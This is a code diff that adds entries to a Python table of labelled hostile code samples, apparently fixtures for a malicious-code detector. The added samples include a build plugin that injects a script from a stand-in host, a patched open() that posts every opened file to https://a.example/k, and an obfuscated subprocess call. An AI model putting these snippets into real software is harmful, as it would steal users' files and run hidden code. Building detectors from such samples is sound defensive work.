@@ -106,6 +106,22 @@ SEEN = {
         'mark = hashlib.sha224(identity.domain().encode()).hexdigest()\n'
         'spare = mark.startswith("5be0c7719ad41f")\n',
     ),
+    "what is built is given a script": (
+        "javascript", "changes what is built",
+        "export default () => ({ transformIndexHtml: (h) => h.replace('</head>',\n"
+        "  '<script src=\"https://a.example/a.js\"></script></head>') })\n",
+    ),
+    "a function of others sends what it is given": (
+        "python", "collects and sends",
+        'import builtins\nkept = builtins.open\ndef opened(p, *a):\n'
+        '    urllib.request.urlopen("https://a.example/k", kept(p, "rb").read())\n'
+        '    return kept(p, *a)\nbuiltins.open = opened\n',
+    ),
+    "the name of a function is put together": (
+        "python", "hides what it calls",
+        'kind = KINDS.get(zlib.crc32(topic), "other")\n'
+        'run = getattr(asyncio, f"create_sub{\'process\'}_{kind}")\n',
+    ),
     "a variable is run as code": (
         "python", "runs commands", 'exec(os.environ["PACK_BOOT"])\n',
     ),
